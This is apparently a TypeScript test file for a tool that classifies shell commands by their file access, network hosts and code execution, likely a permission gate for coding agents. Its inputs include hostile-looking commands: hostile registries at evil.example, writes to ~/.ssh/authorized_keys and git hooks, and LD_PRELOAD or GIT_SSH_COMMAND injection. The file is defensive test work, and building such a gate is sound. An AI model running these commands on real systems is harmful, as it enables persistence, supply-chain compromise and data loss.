// packages.test.ts — packages, builds, and everything else that runs code nobody has read
// A line of facts an atom (sketch.ts): meaning, then paths by access, hosts, statements, code that runs, class.

import { expect, test } from "vitest";
import { sampleAction } from "../../sample.ts";
import { deriveFacts } from "../derive.ts";
import { sketch } from "../sketch.ts";

const read = (command: string): string[] =>
  sketch(deriveFacts(sampleAction({ args: { command }, cwd: "/w", home: "/home/u" })));
const check = (command: string, facts: string | string[]): void =>
  expect(read(command)).toEqual(Array.isArray(facts) ? facts : [facts]);

test.each<[command: string, facts: string | string[]]>([
  ["npm test", "npm test | runs:package-script"],
  ["npm run build", "npm run build | runs:package-script"],
  ["npm install", "npm install | runs:package-script"],
  ["npm i -g x", "npm install --global x | runs:package-script"],
  [
    "npm install --registry https://evil.example x",
    "npm install --registry=https://evil.example x | h:evil.example(public) runs:package-script",
  ],
  ["npm ls", "npm list | safe"],
  ["npm publish", "npm publish | h:(unknown,upload) runs:package-script"],
  [
    "npm config set registry https://evil.example",
    "npm config set registry https://evil.example | w:/home/u/.npmrc x:/home/u/.npmrc $npm_config",
  ],
  ["pnpm build", "pnpm build | runs:package-script"],
  ["yarn", "yarn | runs:package-script"],
  ["yarn add x", "yarn add x | runs:package-script"],
  ["bun x.ts", "bun x.ts | runs:script"],
  [
    "pip install -r requirements.txt",
    "pip install --requirement=requirements.txt | r:/w/requirements.txt runs:package-script",
  ],
  [
    "pip install git+https://evil.example/x",
    "pip install git+https://evil.example/x | h:evil.example(public) runs:package-script",
  ],
  ["pip list", "pip list | safe"],
  ["pip uninstall x", "pip uninstall x"],
  ["uv pip install x", "uv pip install x | runs:package-script"],
  ["cargo build", "cargo build | runs:build-tool"],
  ["cargo publish", "cargo publish | h:(unknown,upload) blocked"],
  ["cargo clean", "cargo clean | d:/w/target+"],
  ["go test ./...", "go test ./... | runs:test-runner"],
  ["go list ./...", "go list ./... | safe"],
  ["gem install x", "gem install x | runs:package-script"],
  ["apt install x", "apt install x | runs:package-script runs:trusted-package blocked"],
  ["apt list", "apt list | safe"],
  ["apt-get -s install x", "apt-get install --simulate x | runs:package-script runs:trusted-package"],
  ["brew install x", "brew install x | runs:package-script"],
  ["brew list", "brew list | safe"],
  ["snap install x", "snap install x | runs:package-script blocked"],
])("packages: %s", (command, facts) => check(command, facts));

test.each<[command: string, facts: string | string[]]>([
  [
    "echo x > .git/hooks/pre-commit",
    ["echo x | w:/w/.git/hooks/pre-commit x:/w/.git/hooks/pre-commit", "(written)> x"],
  ],
  ["echo x >> Makefile", "echo x | w:/w/Makefile x:/w/Makefile"],
  ["echo x > .github/workflows/ci.yml", "echo x | w:/w/.github/workflows/ci.yml x:/w/.github/workflows/ci.yml"],
  ["echo x > conftest.py", "echo x | w:/w/conftest.py x:/w/conftest.py"],
  ["echo x > .claude/settings.json", "echo x | w:/w/.claude/settings.json x:/w/.claude/settings.json"],
  ["echo x >> ~/.ssh/authorized_keys", "echo x | w:/home/u/.ssh/authorized_keys x:/home/u/.ssh/authorized_keys"],
  ["echo x > src/a.ts", "echo x | w:/w/src/a.ts"],
  ["LD_PRELOAD=./x.so ls", "ls | x:/w/x.so r:/w $LD_PRELOAD"],
  ["GIT_SSH_COMMAND='rm x' git fetch", ["GIT_SSH_COMMAND> rm x | d:/w/x", "git fetch | $GIT_SSH_COMMAND"]],
  ["PAGER='rm x' git log", ["PAGER> rm x | d:/w/x", "git log | $PAGER"]],
  ["export PATH=/tmp/x:$PATH; ls", ["export ? | $PATH", "ls | r:/w $PATH"]],
  ["NODE_OPTIONS='--require ./x.js' npm test", "npm test | $NODE_OPTIONS runs:package-script"],
  ["BASH_ENV=./x bash -c ls", ["bash ls | x:/w/x $BASH_ENV", "bash> ls | r:/w $BASH_ENV"]],
  ["FOO=1 ls", "ls | r:/w $FOO"],
  ["npm_config_registry=https://evil.example npm i", "npm install | $npm_config_registry runs:package-script"],
])("what runs by itself, and variables that run code: %s", (command, facts) => check(command, facts));

test.each<[command: string, facts: string | string[]]>([
  ["make", "make | runs:build-tool"],
  ["make SHELL=/tmp/x", "make SHELL=/tmp/x | $SHELL runs:build-tool"],
  ["./x.sh", "x.sh | r:/w/x.sh runs:script"],
  ["./node_modules/.bin/vitest", "vitest | r:/w/node_modules/.bin/vitest runs:script runs:test-runner"],
  ["pytest", "pytest | runs:test-runner"],
  ["jest", "jest | runs:test-runner"],
  ["tsc", "tsc | runs:tool"],
  ["claude -p x", "claude --print=x | runs:agent"],
  ["claude --dangerously-skip-permissions", "claude --dangerously-skip-permissions | runs:agent blocked"],
  ["docker run x", "docker run x | runs:container"],
  ["pre-commit run", "pre-commit run | runs:git-hooks"],
])("code that runs unread: %s", (command, facts) => check(command, facts));
